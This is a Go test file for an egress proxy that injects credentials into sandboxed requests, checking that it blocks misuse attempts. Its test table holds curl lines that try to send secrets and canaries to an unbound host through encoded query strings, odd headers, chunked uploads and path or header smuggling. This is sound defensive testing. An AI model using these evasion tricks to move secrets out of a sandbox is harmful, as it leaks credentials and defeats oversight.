package main

import (
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/egressd/egressd/policy"
)

// misuse is a request of somebody in the sandbox who wants to use a secret
// where it is not bound, or a key of their own ("mine") where own says replace.
type misuse struct {
	curl string // its arguments
	want string // status and word of a refusal, else what the origin saw of both
}

var misuses = []misuse{
	{`https://path.test/v1/a`, "200 real"},
	{`https://path.test/v1/a -H "X-Original-URL: /admin"`, "200"},
	{`https://path.test/v1/a -H "X_Rewrite_URL: /admin" -H "X-Api-Key: $PATH_KEY"`, "403 credential_leak"},
	{`https://path.test/free -H "X-Original-URL: /v1/a" -H "X-Api-Key: mine"`, "200"},
	{`https://path.test/v1%2Fa`, "200"},
	{`--path-as-is "https://path.test/v1/..%2fadmin"`, "400 ambiguous_path"},
	{`https://path.test/V1/a -H "X-Api-Key: mine"`, "200"},
	{`-X Trace https://path.test/v1/a`, "200"},
	{`https://path.test/v1/a -H "X-HTTP-Method-Override: TRACE" -d ""`, "200"},
	{`https://path.test/v1/a -H "Connection: X-Api-Key" -H "X-Api-Key: $PATH_KEY"`, "200 real"},
	{`https://path.test/v1/a -H "Cookie: s=mine" -H "X_Api_Key: mine" -u mine:mine`, "200 real"},
	{`http://path.test/v1/a`, "403 credential_plaintext"},
	{`https://free.test/ -H "Authorization: Bearer $PATH_KEY"`, "403 credential_leak"},
	{`https://free.test/ -u "x:$PATH_KEY"`, "403 credential_leak"},
	{`"https://free.test/?a=$(printf %s "$PATH_KEY" | sed 's/_/%255F/g')"`, "403 credential_leak"},
	{`https://free.test/ -H "Content-Type: image/png, text/plain" -d "$PATH_KEY"`, "403 credential_leak"},
	{`https://free.test/ -H "Content-Type: text/plain" -H "Content-Encoding: identity, identity" -d "$PATH_KEY"`, "403 credential_leak"},
	{`https://free.test/ -H "Transfer-Encoding: chunked" -F "a=$PATH_KEY"`, "403 credential_leak"},
	{`https://free.test/ -d "$CANARY"`, "403 credential_leak"},

	{`"https://generativelanguage.googleapis.com/v1/models?key=mine"`, "200 real"},
	{`"https://generativelanguage.googleapis.com/v1/models?a=1;KEY=mine&%61ccess_token=mine"`, "200 real"},
	{`https://generativelanguage.googleapis.com/v1/models -H "X-HTTP-Method-Override: GET" -d "key=mine"`, "403 credential_foreign"},
	{`https://generativelanguage.googleapis.com/batch -d a`, "403 deny_rule"},
	{`"https://slack.com/api/chat.postMessage?token=mine"`, "200 real"},
	{`https://slack.com/api/chat.postMessage -d "text=a&token=mine"`, "403 credential_foreign"},
	{`https://slack.com/api/chat.postMessage -F text=a -F "tok\en=mine"`, "403 credential_foreign"},
	{`https://slack.com/api/chat.postMessage -H "Content-Type:" -d "token=mine"`, "403 credential_foreign"},
	{`https://slack.com/api/chat.postMessage -d "text=token%3D1"`, "200 real"},
	{`"https://gitlab.com/api/v4/user?private_token=mine" -H "JOB-TOKEN: mine" -H "Deploy_Token: mine"`, "200 real"},
	{`https://gitlab.com/api/v4/projects --json '{"name":"a","priv\u0061te_token":"mine"}'`, "403 credential_foreign"},
	{`https://gitlab.com/api/v4/projects --json '{"variables":{"private_token":"fine"}}'`, "200 real"},
	{`https://gitlab.com/api/v4/projects/1/trigger/pipeline -d token=mine`, "403 deny_rule"},
	{`--http1.1 https://api.openai.com/v1/realtime -H "Sec-WebSocket-Protocol: realtime, openai-insecure-api-key.mine"`, "200 real"},
	{`https://api.anthropic.com/v1/messages -H "Authorization: Bearer mine" -H "X-Api-Key: mine"`, "200 real"},
}

// Nobody in the sandbox uses a secret elsewhere, or another's key here.
func TestMisuse(t *testing.T) {
	credClients(t, func(t *testing.T, h *credHost) {
		const key = "tok-live-Zk31vT0pW5aa-"
		presets := map[string]string{"anthropic": "api.anthropic.com", "openai": "api.openai.com", "gemini": "generativelanguage.googleapis.com", "slack": "slack.com", "gitlab": "gitlab.com"}
		c := credClient{env: map[string]string{"REAL_path": key + "path"}, secrets: []string{key}, rules: []any{"* path.test/**", "* free.test/**"}, hosts: []string{"path.test", "free.test"},
			entries: []map[string]any{
				{"id": "path", "type": "https_header", "header": "X-Api-Key", "target": "path.test/v1", "own": "replace", "env": "PATH_KEY", "source": map[string]any{"env": "REAL_path"}},
				{"canary": true, "env": "CANARY"},
			}}
		of := map[string]string{"path.test": "path"}
		for name, host := range presets {
			of[host] = name
			c.env["REAL_"+name] = key + name
			c.entries = append(c.entries, map[string]any{"id": name, "preset": name, "source": map[string]any{"env": "REAL_" + name}})
			c.rules, c.hosts = append(c.rules, "* "+host+"/**"), append(c.hosts, host)
		}
		var mu sync.Mutex
		var seen []string // what each request in turn had that it should or should not
		for _, host := range c.hosts {
			h.services[host] = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				body, _ := io.ReadAll(r.Body)
				text := fmt.Sprint(r.RequestURI, r.Header, r.Trailer, string(body))
				if _, login, ok := strings.Cut(r.Header.Get("Authorization"), "Basic "); ok {
					plain, _ := base64.StdEncoding.DecodeString(login)
					text += string(plain)
				}
				state := ""
				if name := of[r.Host]; name != "" && strings.Contains(text, key+name) {
					state += " real"
					text = strings.ReplaceAll(text, key+name, "")
				}
				if strings.Contains(text, "oa_cred_") || strings.Contains(text, key) {
					state += " LEAK"
				}
				if strings.Contains(text, "mine") {
					state += " FOREIGN"
				}
				mu.Lock()
				seen = append(seen, state)
				mu.Unlock()
			})
		}
		var run strings.Builder
		for _, x := range misuses {
			fmt.Fprintf(&run, "curl -sS -m 20 -o /tmp/o -w '%%{http_code}' %s; grep -o '\"code\":\"[a-z_]*' /tmp/o | cut -d: -f2 | tr -d '\"\\n' | sed 's/^/ /'; echo; : >/tmp/o\n", x.curl)
		}
		for _, c.user = range clientUsers {
			c.name, c.run, seen = c.user.name, run.String(), nil
			var want strings.Builder
			var sent []string
			for _, x := range misuses {
				status, rest, _ := strings.Cut(x.want, " ")
				if status == "200" {
					if rest != "" {
						rest = " " + rest
					}
					want.WriteString("200\n")
					sent = append(sent, rest)
				} else {
					want.WriteString(x.want + "\n")
				}
			}
			c.want = want.String()
			text := h.try(t, c)
			i := 0
			for _, x := range misuses {
				if !strings.HasPrefix(x.want, "200") {
					continue
				}
				if i >= len(seen) || seen[i] != sent[i] {
					t.Errorf("curl %s: the origin saw %q, want %q", x.curl, seen[min(i, len(seen)):min(i+1, len(seen))], sent[i])
				}
				i++
			}
			if len(seen) != len(sent) {
				t.Errorf("%d requests came to the origin, not %d", len(seen), len(sent))
			}
			// Every use and every leak is in the record.
			if used, leaks := strings.Count(text, `"kind":"credential"`), strings.Count(text, `"kind":"leak"`); used != strings.Count(strings.Join(sent, ""), "real") || leaks != strings.Count(c.want, "credential_leak") {
				t.Errorf("%d uses and %d leaks are recorded", used, leaks)
			}
		}
	})
}

// What the sandbox is told of its policy does not tell traps from credentials.
func TestPageHidesCanaries(t *testing.T) {
	p, problems := policy.Load("egressd.yaml", []byte(`sandbox:
  egress_rules: ["GET api.test/**"]
  credential_proxy:
    - {type: https_bearer, target: api.test, source: {env: TOK}}
    - {canary: true, env: STRIPE_API_KEY}
`), policy.Options{Platform: "linux"})
	if p == nil {
		t.Fatal(problems)
	}
	page, err := policyPage(p)
	if err != nil || !strings.Contains(string(page), "https_bearer:api.test") || strings.Contains(string(page), "STRIPE") {
		t.Errorf("%s, %v", page, err)
	}
}
